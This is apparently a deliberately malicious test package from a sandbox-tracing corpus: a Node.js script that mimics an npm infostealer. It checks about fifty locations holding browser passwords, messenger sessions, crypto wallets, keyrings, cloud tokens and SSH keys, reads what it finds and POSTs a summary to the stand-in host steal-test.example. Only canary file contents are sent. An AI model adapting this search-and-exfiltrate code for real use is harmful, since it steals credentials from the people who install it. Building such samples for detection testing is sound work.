'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// What real npm infostealers do first: walk a list of the places where
// browser passwords and cookies, Discord/Slack/Telegram sessions, wallets,
// keyrings and cloud/registry tokens live, with fs.existsSync, fs.statSync
// and fs.readdirSync, then read what exists and send a summary. In the
// sandbox's HOME only the canary files exist (~/.npmrc, ~/.aws/credentials,
// ~/.ssh/id_rsa, ...), so the trace is mostly probes and failed opens.
// Harmless outside the sandbox too: it sends a file's content only when it
// holds a pkgtrace canary (`CANARY-`), otherwise just its path and size, and
// only to https://steal-test.example/u (a reserved name that never resolves
// on the internet). Prints `stealer-probe: step N ...` at each step; exits 0
// whatever fails, after 5 s at the latest.
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const URL_HOST = 'steal-test.example';
const URL_PATH = '/u';
const say = (msg) => console.log(`stealer-probe: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

// [family, path under HOME, how it is looked for]: `exists` (access),
// `stat` (statx), `list` (existsSync, then readdirSync whatever it said, as
// stealers that trust try/catch more than existsSync do).
const TARGETS = [
  ['browser', '.config/google-chrome', 'list'],
  ['browser', '.config/google-chrome/Default/Login Data', 'exists'],
  ['browser', '.config/google-chrome/Local State', 'stat'],
  ['browser', '.config/chromium/Default/Cookies', 'exists'],
  ['browser', 'snap/chromium/common/chromium/Default/Login Data', 'exists'],
  ['browser', '.config/BraveSoftware/Brave-Browser', 'list'],
  ['browser', '.config/microsoft-edge/Default/Login Data', 'stat'],
  ['browser', '.config/opera/Login Data', 'exists'],
  ['browser', '.config/vivaldi/Default/Login Data', 'exists'],
  ['browser', '.config/yandex-browser/Default/Ya Passman Data', 'exists'],
  ['browser', '.mozilla/firefox', 'list'],
  ['browser', '.mozilla/firefox/profiles.ini', 'stat'],
  ['browser', 'snap/firefox/common/.mozilla/firefox/profiles.ini', 'exists'],
  ['messenger', '.config/discord/Local Storage/leveldb', 'list'],
  ['messenger', '.config/discordcanary/Local Storage/leveldb', 'exists'],
  ['messenger', '.config/discordptb/Local Storage/leveldb', 'stat'],
  ['messenger', '.config/Slack/Cookies', 'exists'],
  ['messenger', '.local/share/TelegramDesktop/tdata', 'list'],
  ['messenger', '.config/Signal/config.json', 'stat'],
  ['messenger', '.config/Element/Local Storage/leveldb', 'exists'],
  ['wallet', '.config/Exodus/exodus.wallet', 'list'],
  ['wallet', '.electrum/wallets', 'list'],
  ['wallet', '.config/atomic/Local Storage/leveldb', 'exists'],
  ['wallet', '.config/Ledger Live/app.json', 'stat'],
  ['wallet', '.config/solana/id.json', 'exists'],
  ['wallet', '.ethereum/keystore', 'list'],
  ['wallet', '.bitcoin/wallet.dat', 'exists'],
  ['wallet', 'Monero/wallets', 'exists'],
  ['wallet', '.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn', 'exists'],
  ['wallet', '.config/BraveSoftware/Brave-Browser/Default/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa', 'stat'],
  ['keyring', '.local/share/keyrings', 'list'],
  ['keyring', '.gnupg/private-keys-v1.d', 'exists'],
  ['keyring', '.password-store', 'exists'],
  ['cloud', '.aws/credentials', 'exists'],
  ['cloud', '.aws/config', 'exists'],
  ['cloud', '.config/gcloud/application_default_credentials.json', 'stat'],
  ['cloud', '.azure/msal_token_cache.json', 'exists'],
  ['cloud', '.kube/config', 'exists'],
  ['cloud', '.config/doctl/config.yaml', 'exists'],
  ['cloud', '.terraform.d/credentials.tfrc.json', 'stat'],
  ['cloud', '.oci/config', 'exists'],
  ['dev', '.npmrc', 'exists'],
  ['dev', '.pypirc', 'exists'],
  ['dev', '.ssh/id_rsa', 'exists'],
  ['dev', '.ssh/id_ed25519', 'stat'],
  ['dev', '.git-credentials', 'exists'],
  ['dev', '.docker/config.json', 'exists'],
  ['dev', '.config/gh/hosts.yml', 'exists'],
  ['dev', '.netrc', 'exists'],
];

const home = os.homedir();

// Step 1: the search.
const found = [];   // {family, rel, kind: 'file' | 'dir', entries?}
for (const [family, rel, how] of TARGETS) {
  const p = path.join(home, rel);
  try {
    if (how === 'exists') {
      if (fs.existsSync(p)) found.push({ family, rel, kind: fs.statSync(p).isDirectory() ? 'dir' : 'file' });
    } else if (how === 'stat') {
      const st = fs.statSync(p);
      found.push({ family, rel, kind: st.isDirectory() ? 'dir' : 'file' });
    } else {
      fs.existsSync(p);
      const entries = fs.readdirSync(p).slice(0, 20);
      found.push({ family, rel, kind: 'dir', entries });
    }
  } catch (e) { /* not there */ }
}
const counts = {};
for (const [family] of TARGETS) counts[family] = (counts[family] || 0) + 1;
say(`step 1 searched ${TARGETS.length} places (${Object.entries(counts).map(([f, n]) => `${f} ${n}`).join(', ')}); ` +
  `found ${found.length}: ${found.map((f) => f.rel).join(' ') || 'none'}`);

// Step 2: read what exists (files, and the first files of a found directory).
const loot = [];
const grab = (rel) => {
  try {
    const buf = fs.readFileSync(path.join(home, rel));
    const text = buf.subarray(0, 4096).toString('utf8');
    // Only a canary's file is sent whole: this package must stay harmless
    // if someone runs it outside the sandbox.
    loot.push(text.includes('CANARY-') ? { rel, size: buf.length, text } : { rel, size: buf.length });
  } catch (e) { /* unreadable */ }
};
for (const f of found) {
  if (f.kind === 'file') grab(f.rel);
  else for (const name of (f.entries || []).slice(0, 5)) grab(path.join(f.rel, name));
}
say(`step 2 read ${loot.length} files, ${loot.filter((l) => l.text).length} with a canary`);

// Step 3: send the summary, the loot first so that it is in the first bytes.
const body = JSON.stringify({
  loot, found: found.map((f) => `${f.family}:${f.rel}`), host: os.hostname(), user: os.userInfo().username,
});
const req = https.request({
  hostname: URL_HOST, port: 443, path: URL_PATH, method: 'POST', timeout: 2500,
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
}, (res) => {
  say(`step 3 POST https://${URL_HOST}${URL_PATH}: status ${res.statusCode}`);
  res.resume();
  res.on('end', () => process.exit(0));
  res.on('error', () => process.exit(0));
});
req.on('error', (e) => { say(`step 3 POST https://${URL_HOST}${URL_PATH} failed: ${errText(e)}`); process.exit(0); });
req.on('timeout', () => req.destroy(new Error('timeout')));
req.end(body);
